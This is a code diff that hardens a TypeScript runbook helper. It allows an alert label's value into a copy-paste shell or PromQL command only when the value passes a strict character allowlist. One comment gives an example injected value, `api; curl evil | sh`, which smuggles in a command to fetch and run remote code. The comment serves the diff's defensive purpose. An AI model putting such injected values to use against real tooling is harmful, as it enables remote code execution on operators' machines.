@@ -7,15 +7,24 @@
 const PLACEHOLDER = /<([a-zA-Z_][a-zA-Z0-9_]*)>|\{\{\s*(?:\$labels\.)?([a-zA-Z_][a-zA-Z0-9_]*)\s*\}\}/g;
 
 /**
- * A runbook step with every placeholder of a known label replaced by the label's raw value;
- * placeholders of labels the alert does not have stay visible as written, so the reader knows
- * what to put there. The result is plain text: each channel escapes it as it escapes any text.
+ * Values that are one word in a shell command and inside a PromQL string: steps are commands a
+ * reader copies into a terminal, and whoever sets a label (a target, relabelling, any webhook
+ * sender) must not be able to rewrite them (`api; curl evil | sh`, or a `"` closing a matcher).
+ */
+const SAFE_VALUE = /^[A-Za-z0-9_.:/@%+=,-]{1,200}$/;
+
+/**
+ * A runbook step with every placeholder of a known label replaced by the label's value, when that
+ * value is safe to paste into a command (SAFE_VALUE); other placeholders stay visible as written,
+ * so the reader knows what to put there. The result is plain text: each channel escapes it as it
+ * escapes any text.
  * @example fillPlaceholders('docker compose logs <service>', { service: 'checkout' }) // 'docker compose logs checkout'
  */
 export function fillPlaceholders(text: string, labels: Readonly<Record<string, string>>): string {
   return text.replace(PLACEHOLDER, (whole, angle: string | undefined, braced: string | undefined) => {
     const name = angle ?? braced ?? '';
-    return Object.hasOwn(labels, name) ? (labels[name] ?? whole) : whole;
+    const value = Object.hasOwn(labels, name) ? labels[name] : undefined;
+    return value !== undefined && SAFE_VALUE.test(value) ? value : whole;
   });
 }
 
